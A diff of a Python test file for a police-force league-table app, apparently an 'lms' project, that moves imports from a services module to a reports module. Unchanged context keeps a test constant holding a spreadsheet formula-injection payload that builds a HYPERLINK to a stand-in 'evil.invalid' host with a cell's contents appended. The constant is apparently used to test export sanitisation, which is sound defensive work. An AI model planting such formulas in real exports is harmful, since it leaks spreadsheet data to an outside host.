@@ -13,7 +13,7 @@ from sqlalchemy import select
 
 from lms.cli import cli
 from lms.models import Force
-from lms.services import exports
+from lms.reports import exports
 from tests.test_reports_pages import kent  # noqa: F401  (fixture)
 
 EVIL = '=HYPERLINK("http://evil.invalid/?"&A1,"Click")'
@@ -95,8 +95,8 @@ def test_api_force_object_is_its_league_table_entry(signed_in, kent):  # noqa: F
 
 
 def test_text_format_lists_every_force(kent, app):  # noqa: F811
-    from lms.services import reports
+    from lms.reports import figures
 
-    text = exports.to_text(reports.league_table())
+    text = exports.to_text(figures.league_table())
     assert text.count("\n") == 3 + 43
     assert "Kent Police" in text.splitlines()[3]
